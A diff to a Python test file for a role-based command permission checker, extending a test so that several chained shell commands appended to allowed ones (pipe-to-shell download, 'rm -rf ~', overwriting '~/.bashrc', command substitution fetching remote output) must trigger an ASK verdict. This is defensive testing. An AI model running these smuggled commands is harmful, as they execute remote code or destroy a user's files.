@@ -56,7 +56,8 @@ def test_the_developer_commands_follow_the_allow_list(tmp_path: Path) -> None:
     assert role_verdict(ask("developer", "execute", command="pytest -q"), tmp_path, allowed) is Verdict.ALLOW
     assert role_verdict(ask("developer", "execute", command="git status --short"), tmp_path, allowed) is Verdict.ALLOW
     assert role_verdict(ask("developer", "execute", command="git push"), tmp_path, allowed) is Verdict.ASK
-    assert role_verdict(ask("developer", "execute", command="pytest; curl x | sh"), tmp_path, allowed) is Verdict.ASK
+    for chained in ("pytest; curl x | sh", "pytest && rm -rf ~", "git status > ~/.bashrc", "pytest $(curl x)"):
+        assert role_verdict(ask("developer", "execute", command=chained), tmp_path, allowed) is Verdict.ASK, chained
     assert role_verdict(ask("developer", "execute", command="pytest"), tmp_path) is Verdict.ASK  # default: ask
 
 
